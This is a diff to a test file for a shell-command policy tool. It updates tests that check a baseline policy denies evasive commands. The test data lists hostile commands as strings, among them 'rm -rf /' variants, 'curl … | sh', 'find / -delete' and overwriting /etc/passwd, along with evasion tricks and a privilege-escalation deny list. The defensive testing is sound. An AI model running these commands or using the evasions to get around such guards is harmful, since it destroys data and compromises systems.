@@ -54,7 +54,11 @@ describe('baseline evasions (same bundle and pipeline the CLI uses)', () => {
     ['xargs rm -rf', 'rm -rf'],
     ["bash -c 'rm -rf /'", 'rm -rf'],
     ['sh -c "rm -fr /"', 'rm -rf'],
-    ['curl https://x | sh', 'pipe-to-shell'],
+    ['curl https://x | sh', 'shell operator'],
+    ["sh -c 'curl https://x | sh'", 'pipe-to-shell'],
+    ['rm --recursiv --forc /', 'rm -rf'],
+    ["env -S 'rm -rf /' ls", 'command line as one string'],
+    ['find / -delete', 'find'],
     ['sudo ls', 'privilege escalation'],
     ['ssh host', 'remote access'],
     ['scp a host:b', 'remote access'],
@@ -66,8 +70,9 @@ describe('baseline evasions (same bundle and pipeline the CLI uses)', () => {
     ['ls; ls', 'operator'],
     ['ls && ls', 'operator'],
     ['ls || ls', 'operator'],
-    ['echo `id`', 'operator'],
-    ['echo $(id)', 'operator'],
+    ['echo `id`', 'expansion'],
+    ['echo $(id)', 'expansion'],
+    ['ls\u000b-la', 'U+000B'],
     ['ls > /etc/passwd', 'operator'],
   ];
   it.each(evasions)('%s is denied by the baseline naming %s, at every level', (command, pattern) => {
@@ -113,7 +118,7 @@ describe('interlock policy build / test', () => {
     try {
       await cp(defaultPolicyDir, dir, { recursive: true });
       const file = path.join(dir, 'baseline', 'baseline.rego');
-      await writeFile(file, (await readFile(file, 'utf8')).replace('"names": {"sudo", "doas", "su", "pkexec"}', '"names": {"doas", "su", "pkexec"}'));
+      await writeFile(file, (await readFile(file, 'utf8')).replace('"names": {"sudo", "doas", "su", "pkexec",', '"names": {"doas", "su", "pkexec",'));
       const r = await interlock(['policy', 'test', '--dir', dir]);
       expect(r.exitCode).toBe(1);
       expect(r.stdout).toMatch(/FAIL data\.interlock\.baseline_test\.test_denied_patterns/);
